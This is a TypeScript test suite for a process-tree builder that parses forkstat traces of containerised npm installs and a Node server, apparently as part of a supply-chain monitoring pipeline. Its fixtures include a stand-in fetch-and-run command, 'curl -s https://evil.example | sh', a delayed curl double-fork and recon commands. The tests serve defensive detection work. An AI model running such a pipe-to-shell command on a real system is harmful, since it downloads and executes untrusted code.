import { describe, expect, it } from 'vitest';
import {
  buildProcessTree,
  type RootMatcher,
  type TracedProcess,
  type TraceLine,
} from './process-tree.js';

// The matchers the pipeline uses (src/pipeline/analyze.ts).
const ROOTS: RootMatcher = {
  install: (c) => /^timeout -s KILL \d+ npm rebuild\b/.test(c),
  server: (c) => c.startsWith('node /home/dev/project/index.js'),
};
const INSTALL_CMD = 'timeout -s KILL 300 npm rebuild --foreground-scripts --no-audit';
const SERVER_CMD = 'node /home/dev/project/index.js --stdio';

// forkstat -e fork,exec,exit -l lines
const fork = (parent: number, child: number, cmd: string): string[] => [
  `12:00:00 fork  ${parent} parent          ${cmd}`,
  `12:00:00 fork  ${child} child           ${cmd}`,
];
const exec = (pid: number, cmdline: string) => `12:00:00 exec  ${pid}                 ${cmdline}`;
const exit = (pid: number, cmd: string) => `12:00:00 exit  ${pid}      0   0.001s ${cmd}`;
/** A process runc starts in a container: no parent line, then the exec of our command. */
const container = (pid: number, cmdline: string): string[] => [
  `12:00:00 fork  ${pid} child           runc init`,
  exec(pid, cmdline),
];

/** Timestamps are the line index, so each record shows which line produced it. */
const trace = (...lines: (string | string[])[]): TraceLine[] =>
  lines.flat().map((line, t) => ({ t, line }));

const build = (...lines: (string | string[])[]) => buildProcessTree(trace(...lines), ROOTS);
const brief = (ps: TracedProcess[]) =>
  ps.map((p) => `${p.root} d${p.depth} ${p.ppid}>${p.pid} ${p.cmdline}`);

describe('buildProcessTree: roots and descendants', () => {
  it('follows the server and its descendants with depth and ppid', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, '/bin/sh -c curl -s https://evil.example | sh'),
      fork(501, 502, '/bin/sh'),
      exec(502, 'curl -s https://evil.example'),
      fork(501, 503, '/bin/sh'),
      exec(503, 'sh'),
    );
    expect(brief(out)).toEqual([
      'server d1 500>501 /bin/sh -c curl -s https://evil.example | sh',
      'server d2 501>502 curl -s https://evil.example',
      'server d2 501>503 sh',
    ]);
    expect(out[0]).toEqual({
      t: 4,
      pid: 501,
      ppid: 500,
      cmdline: '/bin/sh -c curl -s https://evil.example | sh',
      root: 'server',
      depth: 1,
    });
  });

  it('follows the install command (npm and its lifecycle shells)', () => {
    const out = build(
      container(300, INSTALL_CMD),
      fork(300, 301, 'timeout'),
      exec(301, 'npm rebuild --foreground-scripts'),
      fork(301, 302, 'npm rebuild'),
      exec(302, 'sh -c node postinstall.js'),
      fork(302, 303, 'sh'),
      exec(303, 'node postinstall.js'),
    );
    expect(brief(out)).toEqual([
      'install d1 300>301 npm rebuild --foreground-scripts',
      'install d2 301>302 sh -c node postinstall.js',
      'install d3 302>303 node postinstall.js',
    ]);
  });

  it('does not report the root itself', () => {
    expect(build(container(500, SERVER_CMD))).toEqual([]);
  });

  it('reports one record per exec (a process that execs twice)', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, 'sh -c exec id'),
      exec(501, 'id'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 sh -c exec id', 'server d1 500>501 id']);
  });

  it('does not report a fork that never execs, but follows its children', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      fork(501, 502, 'node'),
      exec(502, 'whoami'),
    );
    expect(brief(out)).toEqual(['server d2 501>502 whoami']);
  });

  it('keeps following children after their parent exits (double fork)', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, 'sh -c (sleep 60; curl x) &'),
      fork(501, 502, 'sh'),
      exit(501, 'sh'),
      exec(502, 'curl x'),
    );
    expect(brief(out)).toEqual([
      'server d1 500>501 sh -c (sleep 60; curl x) &',
      'server d2 501>502 curl x',
    ]);
  });

  it('keeps following the children of a root that exited', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exit(500, 'node'),
      exec(501, 'daemon'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 daemon']);
  });

  it('recognises a root exec after a runc init exec, and a runc init child of runc init', () => {
    const out = build(
      '12:00:00 fork  700 parent          runc init',
      '12:00:00 fork  701 child           node',
      exec(700, 'runc init'),
      exec(701, SERVER_CMD),
      fork(701, 702, 'node'),
      exec(702, 'ls'),
    );
    expect(brief(out)).toEqual(['server d1 701>702 ls']);
  });

  it('tracks install and server roots side by side', () => {
    const out = build(
      container(300, INSTALL_CMD),
      container(500, SERVER_CMD),
      fork(300, 301, 'timeout'),
      fork(500, 501, 'node'),
      exec(501, 'uname -a'),
      exec(301, 'npm rebuild'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 uname -a', 'install d1 300>301 npm rebuild']);
  });
});

describe('buildProcessTree: what is not ours', () => {
  it('ignores processes of other containers', () => {
    const out = build(
      container(800, 'nginx -g daemon off;'),
      fork(800, 801, 'nginx'),
      exec(801, 'nginx: worker process'),
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, 'id'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 id']);
  });

  it('ignores host processes, even one running our command line', () => {
    const out = build(
      fork(1, 40, 'systemd'),
      exec(40, SERVER_CMD),
      fork(40, 41, 'node'),
      exec(41, 'sh -c id'),
      fork(2000, 2001, 'bash'),
      exec(2001, 'ls /'),
    );
    expect(out).toEqual([]);
  });

  it('forgets a root when its pid starts another container command', () => {
    const out = build(
      container(500, SERVER_CMD),
      exit(500, 'node'),
      container(500, 'redis-server'),
      fork(500, 501, 'redis-server'),
      exec(501, 'redis-check-aof'),
    );
    expect(out).toEqual([]);
  });

  it('does not charge a reused pid to the old lineage', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, 'sh -c id'),
      exit(501, 'sh -c id'),
      fork(5, 501, 'cron'),
      exec(501, '/usr/sbin/logrotate'),
      fork(501, 502, 'logrotate'),
      exec(502, 'gzip -9 syslog.1'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 sh -c id']);
  });

  it('does not charge a reused pid to the old lineage even when its exit was missed', () => {
    const out = build(
      container(500, SERVER_CMD),
      fork(500, 501, 'node'),
      exec(501, 'sh -c id'),
      fork(5, 501, 'cron'),
      exec(501, '/usr/sbin/logrotate'),
    );
    expect(brief(out)).toEqual(['server d1 500>501 sh -c id']);
  });

  it('does not charge the children of a reused root pid', () => {
    const out = build(
      container(500, SERVER_CMD),
      exit(500, 'node'),
      fork(1, 500, 'systemd'),
      fork(500, 501, 'systemd'),
      exec(501, '/usr/bin/host-thing'),
    );
    expect(out).toEqual([]);
  });
});

describe('buildProcessTree: input hygiene and bounds', () => {
  it.each<[string, string]>([
    ['a header line', 'Time     Event     PID   Info  Duration Process'],
    ['an empty line', ''],
    ['an unknown time', '--:--:-- exec  501                 evil'],
    ['a missing pid', '12:00:00 exec                      evil'],
    ['an unknown event', '12:00:00 comm  501                 evil'],
    ['a clone (thread) event', '12:00:00 clone 501 thread          node'],
    ['a stats line', 'Fork    Exec    Exit   Coredump   Total'],
    ['binary garbage', '\u0000\u00ff\u0001\u0002'],
  ])('ignores %s', (_name, bad) => {
    const out = build(container(500, SERVER_CMD), fork(500, 501, 'node'), bad, exec(501, 'id'));
    expect(brief(out)).toEqual(['server d1 500>501 id']);
  });

  it('ignores an exec of a pid it never saw forked', () => {
    expect(build(container(500, SERVER_CMD), exec(999, 'id'))).toEqual([]);
  });

  it('ignores a child line without a parent line before it', () => {
    const out = build(
      container(500, SERVER_CMD),
      '12:00:00 fork  501 child           node',
      exec(501, 'id'),
    );
    expect(out).toEqual([]);
  });

  it('trims and bounds the command line', () => {
    const long = `sh -c ${'x'.repeat(10_000)}`;
    const out = build(container(500, SERVER_CMD), fork(500, 501, 'node'), exec(501, `${long}   `));
    expect(out[0]?.cmdline).toHaveLength(4096);
    expect(out[0]?.cmdline.startsWith('sh -c xxx')).toBe(true);
  });

  it('reports at most maxProcesses records', () => {
    const lines = [container(500, SERVER_CMD)];
    for (let pid = 501; pid < 560; pid += 1)
      lines.push([...fork(500, pid, 'node'), exec(pid, `job ${pid}`)]);
    const all = buildProcessTree(trace(...lines), ROOTS);
    expect(all).toHaveLength(59);
    const capped = buildProcessTree(trace(...lines), ROOTS, 10);
    expect(capped).toHaveLength(10);
    expect(capped.map((p) => p.pid)).toEqual(all.slice(0, 10).map((p) => p.pid));
  });

  it('returns nothing for no lines', () => {
    expect(buildProcessTree([], ROOTS)).toEqual([]);
  });
});
